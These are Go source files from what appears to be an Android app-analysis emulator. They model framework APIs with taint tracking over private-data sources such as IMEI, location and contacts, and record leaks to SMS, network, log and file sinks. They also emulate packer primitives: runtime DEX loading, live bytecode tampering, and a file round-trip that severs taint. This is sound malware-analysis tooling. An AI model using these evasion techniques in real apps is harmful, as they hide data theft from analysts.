func (f *fwClass) method(name, sig string, static bool, fn NativeFunc) *fwClass {
	params, ret, err := parseSigCached(sig)
	if err != nil {
		panic(fmt.Sprintf("art: framework method %s->%s%s: %v", f.c.Descriptor, name, sig, err))
	}
	var flags uint32 = dex.AccPublic
	if static {
		flags |= dex.AccStatic
	}
	m := f.rt.newMethod()
	*m = Method{
		Class: f.c, Name: name, Signature: sig, AccessFlags: flags,
		Native: fn, ParamTypes: params, ReturnType: ret, Virtual: !static,
	}
	f.c.Methods = append(f.c.Methods, m)
	return f
}

// abstract declares an interface/abstract method with no implementation.
func (f *fwClass) abstract(name, sig string) *fwClass {
	params, ret, err := parseSigCached(sig)
	if err != nil {
		panic(fmt.Sprintf("art: framework abstract %s->%s%s: %v", f.c.Descriptor, name, sig, err))
	}
	m := f.rt.newMethod()
	*m = Method{
		Class: f.c, Name: name, Signature: sig,
		AccessFlags: dex.AccPublic | dex.AccAbstract,
		ParamTypes:  params, ReturnType: ret, Virtual: true,
	}
	f.c.Methods = append(f.c.Methods, m)
	return f
}

func (f *fwClass) staticString(name, v string) *fwClass {
	f.c.StaticMeta = append(f.c.StaticMeta, &Field{
		Class: f.c, Name: name, Type: "Ljava/lang/String;",
		AccessFlags: dex.AccPublic | dex.AccStatic | dex.AccFinal, Static: true,
	})
	f.c.Statics[name] = RefVal(f.rt.NewString(v))
	return f
}

func nop(env *Env, recv *Object, args []Value) (Value, error) {
	return Value{Kind: KindInt}, nil
}

func strOf(v Value) (string, bool) {
	if v.Kind == KindRef && v.Ref != nil && v.Ref.IsString() {
		return v.Ref.Str, true
	}
	return "", false
}

// installFramework defines the Android and java.lang model classes.
func (rt *Runtime) installFramework() {
	// --- java/lang core -------------------------------------------------
	object := rt.fw("Ljava/lang/Object;", "")
	object.method("<init>", "()V", false, nop)
	object.method("getClass", "()Ljava/lang/Class;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.rt.classObject(recv.Class)), nil
		})
	object.method("toString", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.NewString(recv.String())), nil
		})
	object.method("hashCode", "()I", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return IntVal(int64(len(fmt.Sprintf("%p", recv)))), nil
		})
	object.method("equals", "(Ljava/lang/Object;)Z", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return BoolVal(len(args) == 1 && args[0].Kind == KindRef && args[0].Ref == recv), nil
		})

	str := rt.fw("Ljava/lang/String;", "Ljava/lang/Object;")
	// NewString reads the singleton directly; bind it here so the template
	// scratch runtime (which never runs cloneFramework) also has it.
	rt.stringClass = str.c
	str.method("length", "()I", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return IntVal(int64(len(recv.Str))).WithTaint(recv.Taint), nil
		})
	str.method("isEmpty", "()Z", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return BoolVal(recv.Str == "").WithTaint(recv.Taint), nil
		})
	str.method("equals", "(Ljava/lang/Object;)Z", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			s, ok := strOf(args[0])
			return BoolVal(ok && s == recv.Str).WithTaint(recv.Taint | args[0].EffectiveTaint()), nil
		})
	str.method("concat", "(Ljava/lang/String;)Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			s, _ := strOf(args[0])
			out := env.NewString(recv.Str + s)
			out.Taint = recv.Taint | args[0].EffectiveTaint()
			return RefVal(out), nil
		})
	str.method("charAt", "(I)C", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			i := args[0].Int
			if i < 0 || int(i) >= len(recv.Str) {
				return Value{}, env.Throw("Ljava/lang/ArrayIndexOutOfBoundsException;",
					fmt.Sprintf("charAt(%d) on %q", i, recv.Str))
			}
			return IntVal(int64(recv.Str[i])).WithTaint(recv.Taint | args[0].Taint), nil
		})
	str.method("substring", "(II)Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			a, b := args[0].Int, args[1].Int
			if a < 0 || b < a || int(b) > len(recv.Str) {
				return Value{}, env.Throw("Ljava/lang/ArrayIndexOutOfBoundsException;",
					fmt.Sprintf("substring(%d,%d) on %q", a, b, recv.Str))
			}
			out := env.NewString(recv.Str[a:b])
			out.Taint = recv.Taint
			return RefVal(out), nil
		})
	str.method("startsWith", "(Ljava/lang/String;)Z", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			s, _ := strOf(args[0])
			return BoolVal(strings.HasPrefix(recv.Str, s)).WithTaint(recv.Taint), nil
		})
	str.method("indexOf", "(Ljava/lang/String;)I", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			s, _ := strOf(args[0])
			return IntVal(int64(strings.Index(recv.Str, s))).WithTaint(recv.Taint), nil
		})
	str.method("valueOf", "(I)Ljava/lang/String;", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			out := env.NewString(strconv.FormatInt(args[0].Int, 10))
			out.Taint = args[0].Taint
			return RefVal(out), nil
		})
	str.method("toString", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(recv), nil
		})

	sb := rt.fw("Ljava/lang/StringBuilder;", "Ljava/lang/Object;")
	sb.method("<init>", "()V", false, nop)
	appendStr := func(env *Env, recv *Object, args []Value) (Value, error) {
		s, _ := strOf(args[0])
		recv.Str += s
		recv.Taint |= args[0].EffectiveTaint()
		return RefVal(recv), nil
	}
	sb.method("append", "(Ljava/lang/String;)Ljava/lang/StringBuilder;", false, appendStr)
	appendInt := func(env *Env, recv *Object, args []Value) (Value, error) {
		recv.Str += strconv.FormatInt(args[0].Int, 10)
		recv.Taint |= args[0].Taint
		return RefVal(recv), nil
	}
	sb.method("append", "(I)Ljava/lang/StringBuilder;", false, appendInt)
	sb.method("append", "(C)Ljava/lang/StringBuilder;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			recv.Str += string(rune(args[0].Int))
			recv.Taint |= args[0].Taint
			return RefVal(recv), nil
		})
	sb.method("toString", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			out := env.NewString(recv.Str)
			out.Taint = recv.Taint
			return RefVal(out), nil
		})

	// --- Throwable hierarchy --------------------------------------------
	throwable := rt.fw("Ljava/lang/Throwable;", "Ljava/lang/Object;")
	exInit := func(env *Env, recv *Object, args []Value) (Value, error) {
		if len(args) == 1 {
			recv.SetField("message", args[0])
		}
		return Value{Kind: KindInt}, nil
	}
	throwable.method("<init>", "()V", false, exInit)
	throwable.method("<init>", "(Ljava/lang/String;)V", false, exInit)
	throwable.method("getMessage", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return recv.Field("message"), nil
		})
	for _, pair := range [][2]string{
		{"Ljava/lang/Exception;", "Ljava/lang/Throwable;"},
		{"Ljava/lang/RuntimeException;", "Ljava/lang/Exception;"},
		{"Ljava/lang/NullPointerException;", "Ljava/lang/RuntimeException;"},
		{"Ljava/lang/ArithmeticException;", "Ljava/lang/RuntimeException;"},
		{"Ljava/lang/ClassCastException;", "Ljava/lang/RuntimeException;"},
		{"Ljava/lang/ArrayIndexOutOfBoundsException;", "Ljava/lang/RuntimeException;"},
		{"Ljava/lang/NumberFormatException;", "Ljava/lang/RuntimeException;"},
		{"Ljava/lang/ClassNotFoundException;", "Ljava/lang/Exception;"},
		{"Ljava/lang/NoSuchMethodException;", "Ljava/lang/Exception;"},
	} {
		ex := rt.fw(pair[0], pair[1])
		ex.method("<init>", "()V", false, exInit)
		ex.method("<init>", "(Ljava/lang/String;)V", false, exInit)
	}

	integer := rt.fw("Ljava/lang/Integer;", "Ljava/lang/Object;")
	integer.method("parseInt", "(Ljava/lang/String;)I", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			s, ok := strOf(args[0])
			if !ok {
				return Value{}, env.Throw("Ljava/lang/NumberFormatException;", "null")
			}
			n, err := strconv.ParseInt(strings.TrimSpace(s), 10, 32)
			if err != nil {
				return Value{}, env.Throw("Ljava/lang/NumberFormatException;", s)
			}
			return IntVal(n).WithTaint(args[0].EffectiveTaint()), nil
		})
	integer.method("valueOf", "(I)Ljava/lang/Integer;", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			box := env.rt.NewInstance(env.rt.lookupClass("Ljava/lang/Integer;"))
			box.SetField("value", args[0])
			return RefVal(box), nil
		})
	integer.method("intValue", "()I", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return recv.Field("value"), nil
		})

	// --- Reflection ------------------------------------------------------
	class := rt.fw("Ljava/lang/Class;", "Ljava/lang/Object;")
	rt.classClass = class.c
	class.method("forName", "(Ljava/lang/String;)Ljava/lang/Class;", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			name, ok := strOf(args[0])
			if !ok {
				return Value{}, env.Throw("Ljava/lang/ClassNotFoundException;", "null")
			}
			desc := "L" + strings.ReplaceAll(name, ".", "/") + ";"
			c, err := env.FindClass(desc)
			if err != nil {
				return Value{}, env.Throw("Ljava/lang/ClassNotFoundException;", name)
			}
			return RefVal(env.rt.classObject(c)), nil
		})
	class.method("getName", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			c := recv.Data.(*Class)
			name := strings.ReplaceAll(strings.Trim(c.Descriptor, "L;"), "/", ".")
			return RefVal(env.NewString(name)), nil
		})
	getMethod := func(env *Env, recv *Object, args []Value) (Value, error) {
		c, _ := recv.Data.(*Class)
		name, ok := strOf(args[0])
		if c == nil || !ok {
			return Value{}, env.Throw("Ljava/lang/NoSuchMethodException;", "null")
		}
		m := c.FindMethod(name, "")
		if m == nil {
			return Value{}, env.Throw("Ljava/lang/NoSuchMethodException;", name)
		}
		mo := env.rt.NewInstance(env.rt.lookupClass("Ljava/lang/reflect/Method;"))
		mo.Data = m
		return RefVal(mo), nil
	}
	class.method("getMethod", "(Ljava/lang/String;)Ljava/lang/reflect/Method;", false, getMethod)
	class.method("getDeclaredMethod", "(Ljava/lang/String;)Ljava/lang/reflect/Method;", false, getMethod)
	class.method("getDeclaredMethods", "()[Ljava/lang/reflect/Method;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			c, _ := recv.Data.(*Class)
			if c == nil {
				return NullVal(), nil
			}
			arr, err := env.rt.NewArray("[Ljava/lang/reflect/Method;", len(c.Methods))
			if err != nil {
				return Value{}, err
			}
			for i, m := range c.Methods {
				mo := env.rt.NewInstance(env.rt.lookupClass("Ljava/lang/reflect/Method;"))
				mo.Data = m
				arr.Elems[i] = RefVal(mo)
			}
			return RefVal(arr), nil
		})
	class.method("newInstance", "()Ljava/lang/Object;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			c, _ := recv.Data.(*Class)
			if c == nil {
				return Value{}, env.Throw("Ljava/lang/RuntimeException;", "not a class")
			}
			if err := env.rt.ensureInitialized(env.st, c); err != nil {
				return Value{}, err
			}
			obj := env.rt.NewInstance(c)
			if ctor := c.FindMethod("<init>", "()V"); ctor != nil {
				if _, err := env.Call(ctor, obj, nil); err != nil {
					return Value{}, err
				}
			}
			return RefVal(obj), nil
		})

	method := rt.fw("Ljava/lang/reflect/Method;", "Ljava/lang/Object;")
	method.method("getName", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			m := recv.Data.(*Method)
			return RefVal(env.NewString(m.Name)), nil
		})
	method.method("invoke",
		"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			target, _ := recv.Data.(*Method)
			if target == nil {
				return Value{}, env.Throw("Ljava/lang/RuntimeException;", "invalid Method object")
			}
			var callRecv *Object
			if !args[0].IsNull() {
				callRecv = args[0].Ref
				// Virtual dispatch through the actual receiver class.
				if target.Virtual {
					if resolved := callRecv.Class.FindMethod(target.Name, target.Signature); resolved != nil {
						target = resolved
					}
				}
			}
			var callArgs []Value
			if !args[1].IsNull() {
				for _, el := range args[1].Ref.Elems {
					callArgs = append(callArgs, unbox(el))
				}
			}
			env.FireReflectiveCall(target)
			res, err := env.Call(target, callRecv, callArgs)
			if err != nil {
				return Value{}, err
			}
			return boxIfPrimitive(env, target.ReturnType, res), nil
		})

	// --- android framework ------------------------------------------------
	rt.fw("Landroid/os/Bundle;", "Ljava/lang/Object;").method("<init>", "()V", false, nop)

	intent := rt.fw("Landroid/content/Intent;", "Ljava/lang/Object;")
	intent.method("<init>", "()V", false, nop)
	intent.method("getStringExtra", "(Ljava/lang/String;)Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			key, _ := strOf(args[0])
			if v, ok := env.rt.intentExtras[key]; ok {
				return RefVal(env.NewString(v)), nil
			}
			return NullVal(), nil
		})

	config := rt.fw("Landroid/content/res/Configuration;", "Ljava/lang/Object;")
	_ = config

	listener := rt.fw("Landroid/view/View$OnClickListener;", "Ljava/lang/Object;")
	listener.c.AccessFlags |= dex.AccInterface
	listener.abstract("onClick", "(Landroid/view/View;)V")

	view := rt.fw("Landroid/view/View;", "Ljava/lang/Object;")
	view.method("<init>", "()V", false, nop)
	view.method("getId", "()I", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return recv.Field("__id"), nil
		})
	view.method("setOnClickListener", "(Landroid/view/View$OnClickListener;)V", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			recv.SetField("__listener", args[0])
			return Value{Kind: KindInt}, nil
		})
	btn := rt.fw("Landroid/widget/Button;", "Landroid/view/View;")
	btn.method("<init>", "()V", false, nop)
	tv := rt.fw("Landroid/widget/TextView;", "Landroid/view/View;")
	tv.method("<init>", "()V", false, nop)
	tv.method("setText", "(Ljava/lang/String;)V", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			recv.SetField("__text", args[0])
			return Value{Kind: KindInt}, nil
		})
	tv.method("getText", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return recv.Field("__text"), nil
		})

	telephony := rt.fw("Landroid/telephony/TelephonyManager;", "Ljava/lang/Object;")
	telephony.method("getDeviceId", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.NewStringTainted(env.Device().IMEI, apimodel.TaintIMEI)), nil
		})
	telephony.method("getSimSerialNumber", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.NewStringTainted(env.Device().SIM, apimodel.TaintSIM)), nil
		})

	sms := rt.fw("Landroid/telephony/SmsManager;", "Ljava/lang/Object;")
	sms.method("getDefault", "()Landroid/telephony/SmsManager;", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.rt.NewInstance(env.rt.lookupClass("Landroid/telephony/SmsManager;"))), nil
		})
	sms.method("sendTextMessage",
		"(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/Object;Ljava/lang/Object;)V",
		false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			key := "Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/Object;Ljava/lang/Object;)V"
			env.RecordSink(apimodel.SinkSMS, key, args[apimodel.SinkArgStart(key):3], args)
			return Value{Kind: KindInt}, nil
		})

	logCls := rt.fw("Landroid/util/Log;", "Ljava/lang/Object;")
	logSink := func(name string) NativeFunc {
		key := "Landroid/util/Log;->" + name + "(Ljava/lang/String;Ljava/lang/String;)I"
		return func(env *Env, recv *Object, args []Value) (Value, error) {
			env.RecordSink(apimodel.SinkLog, key, args[apimodel.SinkArgStart(key):], args)
			return IntVal(0), nil
		}
	}
	logCls.method("i", "(Ljava/lang/String;Ljava/lang/String;)I", true, logSink("i"))
	logCls.method("d", "(Ljava/lang/String;Ljava/lang/String;)I", true, logSink("d"))
	logCls.method("e", "(Ljava/lang/String;Ljava/lang/String;)I", true, logSink("e"))

	location := rt.fw("Landroid/location/Location;", "Ljava/lang/Object;")
	location.method("toString", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.NewStringTainted(env.Device().Location, apimodel.TaintLocation)), nil
		})
	locMgr := rt.fw("Landroid/location/LocationManager;", "Ljava/lang/Object;")
	locMgr.method("getLastKnownLocation", "(Ljava/lang/String;)Landroid/location/Location;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			loc := env.rt.NewInstance(env.rt.lookupClass("Landroid/location/Location;"))
			loc.Taint = Taint(apimodel.TaintLocation)
			return RefVal(loc), nil
		})

	wifiInfo := rt.fw("Landroid/net/wifi/WifiInfo;", "Ljava/lang/Object;")
	wifiInfo.method("getSSID", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.NewStringTainted(env.Device().SSID, apimodel.TaintSSID)), nil
		})
	wifiMgr := rt.fw("Landroid/net/wifi/WifiManager;", "Ljava/lang/Object;")
	wifiMgr.method("getConnectionInfo", "()Landroid/net/wifi/WifiInfo;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.rt.NewInstance(env.rt.lookupClass("Landroid/net/wifi/WifiInfo;"))), nil
		})

	contacts := rt.fw("Landroid/content/ContactsReader;", "Ljava/lang/Object;")
	contacts.method("query", "()Ljava/lang/String;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.NewStringTainted("alice:555-0100", apimodel.TaintContacts)), nil
		})

	http := rt.fw("Landroid/net/http/HttpClient;", "Ljava/lang/Object;")
	http.method("post", "(Ljava/lang/String;Ljava/lang/String;)V", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			key := "Landroid/net/http/HttpClient;->post(Ljava/lang/String;Ljava/lang/String;)V"
			env.RecordSink(apimodel.SinkNetwork, key, args[apimodel.SinkArgStart(key):], args)
			return Value{Kind: KindInt}, nil
		})

	fileUtil := rt.fw("Ljava/io/FileUtil;", "Ljava/lang/Object;")
	fileUtil.method("writeExternal", "(Ljava/lang/String;Ljava/lang/String;)V", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			key := "Ljava/io/FileUtil;->writeExternal(Ljava/lang/String;Ljava/lang/String;)V"
			env.RecordSink(apimodel.SinkFile, key, args[apimodel.SinkArgStart(key):], args)
			path, _ := strOf(args[0])
			content, _ := strOf(args[1])
			// The stored copy deliberately drops taint: reading it back
			// severs the flow, which is why every tool in the paper's
			// Table IV misses PrivateDataLeak3's file round-trip.
			env.rt.extFiles[path] = env.NewString(content)
			return Value{Kind: KindInt}, nil
		})
	fileUtil.method("readExternal", "(Ljava/lang/String;)Ljava/lang/String;", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			path, _ := strOf(args[0])
			if o, ok := env.rt.extFiles[path]; ok {
				return RefVal(env.NewString(o.Str)), nil
			}
			return NullVal(), nil
		})
	// App-internal storage is not an exfiltration channel (no sink event),
	// but its contents are equally untracked by every tested tool.
	fileUtil.method("writeInternal", "(Ljava/lang/String;Ljava/lang/String;)V", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			path, _ := strOf(args[0])
			content, _ := strOf(args[1])
			env.rt.extFiles["internal:"+path] = env.NewString(content)
			return Value{Kind: KindInt}, nil
		})
	fileUtil.method("readInternal", "(Ljava/lang/String;)Ljava/lang/String;", true,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			path, _ := strOf(args[0])
			if o, ok := env.rt.extFiles["internal:"+path]; ok {
				return RefVal(env.NewString(o.Str)), nil
			}
			return NullVal(), nil
		})

	build := rt.fw("Landroid/os/Build;", "Ljava/lang/Object;")
	build.staticString("MODEL", rt.Device.Model)
	build.staticString("BRAND", rt.Device.Brand)
	build.staticString("HARDWARE", rt.Device.Hardware)
	build.staticString("FINGERPRINT", rt.Device.Fingerprint)

	activity := rt.fw("Landroid/app/Activity;", "Ljava/lang/Object;")
	activity.method("<init>", "()V", false, nop)
	for _, lifecycle := range []string{"onCreate"} {
		activity.method(lifecycle, "(Landroid/os/Bundle;)V", false, nop)
	}
	for _, lifecycle := range []string{"onStart", "onResume", "onPause", "onStop", "onDestroy", "onLowMemory"} {
		activity.method(lifecycle, "()V", false, nop)
	}
	activity.method("setContentView", "(I)V", false, nop)
	activity.method("getIntent", "()Landroid/content/Intent;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.rt.NewInstance(env.rt.lookupClass("Landroid/content/Intent;"))), nil
		})
	activity.method("findViewById", "(I)Landroid/view/View;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			return RefVal(env.rt.viewByID(args[0].Int)), nil
		})
	activity.method("getConfiguration", "()Landroid/content/res/Configuration;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			cfg := env.rt.NewInstance(env.rt.lookupClass("Landroid/content/res/Configuration;"))
			cfg.SetField("screenLayout", IntVal(env.Device().screenLayout()))
			return RefVal(cfg), nil
		})
	activity.method("getSystemService", "(Ljava/lang/String;)Ljava/lang/Object;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			name, _ := strOf(args[0])
			var desc string
			switch name {
			case "phone":
				desc = "Landroid/telephony/TelephonyManager;"
			case "location":
				desc = "Landroid/location/LocationManager;"
			case "wifi":
				desc = "Landroid/net/wifi/WifiManager;"
			case "contacts":
				desc = "Landroid/content/ContactsReader;"
			default:
				return NullVal(), nil
			}
			return RefVal(env.rt.NewInstance(env.rt.lookupClass(desc))), nil
		})

	loader := rt.fw("Ldalvik/system/DexClassLoader;", "Ljava/lang/Object;")
	loader.method("<init>", "(Ljava/lang/String;)V", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			assetName, ok := strOf(args[0])
			if !ok {
				return Value{}, env.Throw("Ljava/lang/RuntimeException;", "null dex path")
			}
			data, ok := env.Asset(assetName)
			if !ok {
				return Value{}, env.Throw("Ljava/lang/RuntimeException;",
					"no such asset "+assetName)
			}
			if _, err := env.DefineDex(data); err != nil {
				return Value{}, env.Throw("Ljava/lang/RuntimeException;", err.Error())
			}
			return Value{Kind: KindInt}, nil
		})
	loader.method("loadClass", "(Ljava/lang/String;)Ljava/lang/Class;", false,
		func(env *Env, recv *Object, args []Value) (Value, error) {
			name, _ := strOf(args[0])
			desc := "L" + strings.ReplaceAll(name, ".", "/") + ";"
			c, err := env.FindClass(desc)
			if err != nil {
				return Value{}, env.Throw("Ljava/lang/ClassNotFoundException;", name)
			}
			return RefVal(env.rt.classObject(c)), nil
		})
}

// unbox converts boxed Integer objects back to primitive values for
// reflective calls; other values pass through.
func unbox(v Value) Value {
	if v.Kind == KindRef && v.Ref != nil &&
		v.Ref.Class.Descriptor == "Ljava/lang/Integer;" {
		inner := v.Ref.Field("value")
		inner.Taint |= v.Taint | v.Ref.Taint
		return inner
	}
	return v
}

// boxIfPrimitive wraps primitive reflective-call results in Integer.
func boxIfPrimitive(env *Env, returnType string, v Value) Value {
	switch returnType {
	case "V":
		return NullVal()
	case "I", "Z", "B", "S", "C":
		box := env.rt.NewInstance(env.rt.lookupClass("Ljava/lang/Integer;"))
		box.SetField("value", v)
		box.Taint = v.Taint
		return RefVal(box)
	default:
		return v
	}
}
