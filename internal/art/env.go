package art

import (
	"fmt"

	"dexlego/internal/apimodel"
	"dexlego/internal/dex"
)

// Env is the JNI-environment stand-in handed to native methods. It exposes
// the operations real packers and self-modifying malware perform from
// native code: mutating live bytecode, defining DEX files at runtime,
// calling back into the interpreter, and reading package assets.
type Env struct {
	rt      *Runtime
	st      *execState
	current *Method
}

// Runtime returns the owning runtime.
func (e *Env) Runtime() *Runtime { return e.rt }

// Device returns the device environment.
func (e *Env) Device() Device { return e.rt.Device }

// Method returns the native method being executed.
func (e *Env) Method() *Method { return e.current }

// FindClass resolves a loaded class.
func (e *Env) FindClass(descriptor string) (*Class, error) {
	return e.rt.FindClass(descriptor)
}

// DefineDex parses raw DEX bytes and links the contained classes,
// firing the DynamicDex hook (dynamic code loading).
func (e *Env) DefineDex(data []byte) ([]*Class, error) {
	f, err := dex.Read(data)
	if err != nil {
		return nil, fmt.Errorf("art: define dex: %w", err)
	}
	return e.DefineDexFile(f)
}

// DefineDexFile links an already-parsed DEX file.
func (e *Env) DefineDexFile(f *dex.File) ([]*Class, error) {
	classes, err := e.rt.LoadDex(f)
	if err != nil {
		return nil, err
	}
	for _, h := range e.rt.hooks {
		if h.DynamicDex != nil {
			h.DynamicDex(f, classes)
		}
	}
	return classes, nil
}

// TamperMethod mutates the live instruction array of a loaded method — the
// self-modifying-code primitive of the paper's Code 1. The mutation function
// receives the live slice and may rewrite units in place or grow it by
// returning a replacement.
func (e *Env) TamperMethod(classDesc, name string, mutate func(insns []uint16) []uint16) error {
	c, err := e.rt.FindClass(classDesc)
	if err != nil {
		return err
	}
	m := c.FindMethod(name, "")
	if m == nil {
		return fmt.Errorf("art: tamper: method %s->%s not found", classDesc, name)
	}
	if m.Insns == nil {
		return fmt.Errorf("art: tamper: method %s is not bytecode", m.Key())
	}
	if out := mutate(m.Insns); out != nil {
		m.Insns = out
	}
	pc := -1
	if caller, callerPC := e.Caller(); caller != nil {
		pc = callerPC
	}
	m.invalidateCode(e.rt, pc)
	return nil
}

// MethodOf resolves a loaded method.
func (e *Env) MethodOf(classDesc, name, signature string) (*Method, error) {
	c, err := e.rt.FindClass(classDesc)
	if err != nil {
		return nil, err
	}
	m := c.FindMethod(name, signature)
	if m == nil {
		return nil, fmt.Errorf("art: method %s->%s%s not found", classDesc, name, signature)
	}
	return m, nil
}

// Call invokes a method within the current execution (shares the step
// budget and frame stack).
func (e *Env) Call(m *Method, recv *Object, args []Value) (Value, error) {
	if err := e.rt.ensureInitialized(e.st, m.Class); err != nil {
		return Value{}, err
	}
	return e.rt.invoke(e.st, m, recv, args)
}

// Caller returns the innermost bytecode method and dex_pc that invoked the
// current native method, or nil at top level.
func (e *Env) Caller() (*Method, int) {
	f := e.st.callerFrame()
	if f == nil {
		return nil, 0
	}
	return f.method, f.pc
}

// Throw returns a catchable in-app exception.
func (e *Env) Throw(descriptor, msg string) error {
	return e.rt.Throw(descriptor, msg)
}

// NewString allocates a string object.
func (e *Env) NewString(s string) *Object { return e.rt.NewString(s) }

// NewStringTainted allocates a string carrying source taint.
func (e *Env) NewStringTainted(s string, kind apimodel.TaintKind) *Object {
	o := e.rt.NewString(s)
	o.Taint = Taint(kind)
	return o
}

// Asset reads an asset from the loaded APK.
func (e *Env) Asset(name string) ([]byte, bool) {
	if e.rt.apk == nil {
		return nil, false
	}
	return e.rt.apk.Asset(name)
}

// NativeLib reads a native library entry from the loaded APK.
func (e *Env) NativeLib(name string) ([]byte, bool) {
	if e.rt.apk == nil {
		return nil, false
	}
	return e.rt.apk.NativeLib(name)
}

// RecordSink records a sink event attributed to the current caller.
func (e *Env) RecordSink(kind apimodel.SinkKind, methodKey string, dataArgs []Value, allArgs []Value) {
	var taint Taint
	for _, a := range dataArgs {
		taint |= a.EffectiveTaint()
	}
	ev := SinkEvent{Sink: kind, Method: methodKey, Taint: taint}
	if m, pc := e.Caller(); m != nil {
		ev.Caller = m.Key()
		ev.CallerPC = pc
	}
	for _, a := range allArgs {
		ev.Args = append(ev.Args, Pretty(a))
	}
	e.rt.recordSink(ev)
}

// RedirectLaunch makes the in-progress activity launch continue with the
// given activity class once the current onCreate returns — the mechanism
// packer shells use to hand control to the unpacked original application
// under the normal lifecycle.
func (e *Env) RedirectLaunch(descriptor string) {
	e.rt.launchTarget = descriptor
}

// FireReflectiveCall notifies hooks that a reflective invocation resolved to
// target.
func (e *Env) FireReflectiveCall(target *Method) {
	caller, pc := e.Caller()
	for _, h := range e.rt.hooks {
		if h.ReflectiveCall != nil {
			h.ReflectiveCall(caller, pc, target)
		}
	}
}
