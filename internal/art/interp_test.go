package art_test

import (
	"errors"
	"fmt"
	"testing"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// evalBinop runs `op v, a, b` in the interpreter and returns the result.
func evalBinop(t *testing.T, op bytecode.Opcode, a, b int64) (int64, error) {
	t.Helper()
	p := dexgen.New()
	p.Class("Lsem/B;", "").Static("f", "I", []string{"I", "I"}, func(asm *dexgen.Asm) {
		asm.Binop(op, 0, asm.P(0), asm.P(1))
		asm.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	res, err := rt.Call("Lsem/B;", "f", "(II)I", nil,
		[]art.Value{art.IntVal(a), art.IntVal(b)})
	return res.Int, err
}

func TestBinopSemantics(t *testing.T) {
	tests := []struct {
		op   bytecode.Opcode
		a, b int64
		want int64
	}{
		{bytecode.OpAddInt, 7, 5, 12},
		{bytecode.OpAddInt, 1<<31 - 1, 1, -(1 << 31)}, // 32-bit wraparound
		{bytecode.OpSubInt, 7, 5, 2},
		{bytecode.OpMulInt, -3, 5, -15},
		{bytecode.OpDivInt, 17, 5, 3},
		{bytecode.OpDivInt, -17, 5, -3}, // truncation toward zero
		{bytecode.OpRemInt, 17, 5, 2},
		{bytecode.OpRemInt, -17, 5, -2},
		{bytecode.OpAndInt, 0b1100, 0b1010, 0b1000},
		{bytecode.OpOrInt, 0b1100, 0b1010, 0b1110},
		{bytecode.OpXorInt, 0b1100, 0b1010, 0b0110},
		{bytecode.OpShlInt, 1, 4, 16},
		{bytecode.OpShlInt, 1, 33, 2},  // shift distance masked to 5 bits
		{bytecode.OpShrInt, -8, 1, -4}, // arithmetic shift
		{bytecode.OpUshrInt, -8, 1, 0x7ffffffc},
	}
	for _, tt := range tests {
